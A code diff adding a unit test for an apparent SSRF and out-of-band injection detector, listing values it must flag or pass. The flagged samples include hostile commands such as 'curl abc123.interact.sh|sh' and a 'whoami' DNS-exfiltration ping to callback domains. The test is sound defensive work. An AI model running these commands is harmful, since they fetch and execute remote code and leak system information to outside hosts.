@@ -127,6 +127,21 @@ TEST(SsrfFetchArgument, RedirectNamesOtherArgumentsAndProseAreAllowed) {
   EXPECT_FALSE(Flagged(j)) << j.explanation;
 }
 
+// An out-of-band interaction domain anywhere in a value is a blind-injection probe; the
+// service named without a host label, or a longer domain that only contains its name, is not.
+TEST(OutOfBandValue, CallbackDomainsOutsideUrlsAreSsrf) {
+  for (const char* value : {"nslookup x.burpcollaborator.net", "abc.oast.fun",
+                            "ping -c1 `whoami`.x.dnslog.cn", "curl abc123.interact.sh|sh"}) {
+    Verdict v = InspectQueryValue(value);
+    EXPECT_TRUE(HasCategory(v, Category::kSsrf) && Flagged(v)) << value << " -> " << v.explanation;
+  }
+  for (const char* value :
+       {"see oast.me.uk", "a.oast.me.uk", "the service webhook.site is nice", "x.dnslog.cnn"}) {
+    Verdict v = InspectQueryValue(value);
+    EXPECT_FALSE(Flagged(v)) << value << " -> " << v.explanation;
+  }
+}
+
 // Slashless schemes are found from the colons that end them, metadata paths from the
 // slashes that start them: a later occurrence after a harmless earlier one still counts,
 // whichever scheme or path comes first in the value.
